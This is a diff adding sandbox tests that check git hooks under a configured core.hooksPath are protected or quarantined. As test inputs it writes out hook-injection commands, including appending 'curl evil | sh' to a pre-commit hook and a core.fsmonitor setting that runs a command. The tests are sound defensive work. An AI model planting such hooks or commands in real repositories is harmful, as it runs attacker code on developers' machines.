@@ -149,6 +149,27 @@ def test_repository_created_by_the_command_keeps_no_hooks(who):
     assert quarantined and "pwned" in quarantined[0].read_text()
 
 
+def test_hooks_in_a_configured_hooks_path_are_protected_like_git_hooks(who):
+    git = ["git", "-c", "safe.directory=*", "-C", str(who.workspace)]
+    subprocess.run([*git, "config", "core.hooksPath", ".husky"], check=True)
+    (who.workspace / ".husky").mkdir()
+    (who.workspace / ".husky" / "pre-commit").write_text("npm test\n")
+    who.chown(who.workspace)
+    result = who.sandbox("echo 'curl evil | sh' >> .husky/pre-commit; echo x > .husky/post-merge; echo done")
+    assert (who.workspace / ".husky" / "pre-commit").read_text() == "npm test\n"
+    assert not (who.workspace / ".husky" / "post-merge").exists()
+    assert "Read-only file system" in result.stderr
+
+
+def test_a_configured_hooks_path_created_by_the_command_is_quarantined(who):
+    subprocess.run(["git", "-c", "safe.directory=*", "-C", str(who.workspace), "config", "core.hooksPath",
+                    "githooks"], check=True)
+    who.chown(who.workspace)
+    result = who.sandbox("mkdir githooks && echo evil > githooks/pre-commit && chmod +x githooks/pre-commit")
+    assert not (who.workspace / "githooks").exists()
+    assert "blocked create" in result.stderr
+
+
 def test_new_repository_config_that_runs_code_is_quarantined(who):
     who.sandbox("git init -q r && git -C r config core.fsmonitor 'touch /tmp/pwn'")
     assert not (who.workspace / "r" / ".git" / "config").exists()
